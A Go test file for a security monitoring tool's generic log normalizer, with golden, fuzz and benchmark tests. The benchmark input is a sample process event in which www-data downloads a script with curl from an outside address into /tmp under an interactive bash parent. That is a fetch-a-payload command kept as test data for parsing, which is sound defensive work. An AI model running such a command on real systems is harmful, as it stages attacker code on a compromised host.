package generic_test

import (
	"testing"

	"github.com/vedette-soc/vedette/internal/normalize/generic"
	"github.com/vedette-soc/vedette/internal/normalize/normalizetest"
)

func TestGolden(t *testing.T) {
	normalizetest.Golden(t, generic.NewJSON(), generic.NewPairs(), generic.NewText())
}

func FuzzParse(f *testing.F) {
	normalizetest.Fuzz(f, generic.NewJSON(), generic.NewPairs(), generic.NewText())
}

func BenchmarkJSON(b *testing.B) {
	normalizetest.Bench(b, `{"@timestamp":"2026-11-23T14:10:50.123Z","ecs":{"version":"8.11.0"},"event":{"kind":"event","category":["process"],"type":["start"],"action":"exec","id":"Mx2JkP0qYp8"},"host":{"name":"edge7","os":{"type":"linux","family":"debian","version":"12"}},"user":{"name":"www-data","id":"33"},"process":{"pid":6001,"entity_id":"ZWRnZTctNjAwMQ","name":"curl","executable":"/usr/bin/curl","command_line":"curl -s http://203.0.113.5/x.sh -o /tmp/x.sh","working_directory":"/var/www/html","args_count":5,"hash":{"sha256":"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},"parent":{"pid":6000,"name":"bash","executable":"/bin/bash","command_line":"bash -i"}},"agent":{"id":"c0ffee","type":"auditbeat","version":"8.15.0"},"labels":{"env":"production","team":"web"},"tags":["edge","linux"],"message":"process curl started by www-data on edge7 with five arguments","related":{"user":["www-data","root"],"hosts":["edge7"]}}`,
		generic.NewJSON(), generic.NewPairs(), generic.NewText())
}
